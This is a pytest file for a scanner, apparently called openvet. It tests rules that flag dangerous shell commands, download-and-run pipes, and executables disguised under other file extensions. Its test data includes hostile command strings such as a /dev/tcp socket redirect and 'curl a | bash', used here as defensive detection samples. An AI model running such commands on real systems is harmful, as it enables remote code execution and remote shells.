"""Each rule about scripts and disguised programs, with what it tells and what it does not."""

from __future__ import annotations

from pathlib import Path

import pytest

import openvet


@pytest.mark.parametrize(
    ("rule", "name", "data", "told"),
    [
        ("shell/dangerous-command", "a.sh", b"cat < /dev/tcp/a/1\n", True),
        ("shell/dangerous-command", "a.sh", b"cat /dev/null\n", False),
        ("shell/runs-download", "a.sh", b"curl a | bash\n", True),
        ("shell/runs-download", "a.sh", b"curl a > b\n", False),
        ("file/disguised-program", "a.bin", b"\x7fELF" + bytes(60), True),
        ("file/disguised-program", "a.so", b"\x7fELF" + bytes(60), False),
        ("file/disguised-program", "a.pt", b"#!/bin/sh\necho\n", True),
        ("file/disguised-program", "a.md", b"#!/bin/sh\necho\n", False),
    ],
)
def test_bad_and_good(tmp_path: Path, rule: str, name: str, data: bytes, told: bool) -> None:
    (tmp_path / name).write_bytes(data)
    found = {each.rule for each in openvet.check(tmp_path / name).models[0].scan.all_findings()}
    assert (rule in found) is told
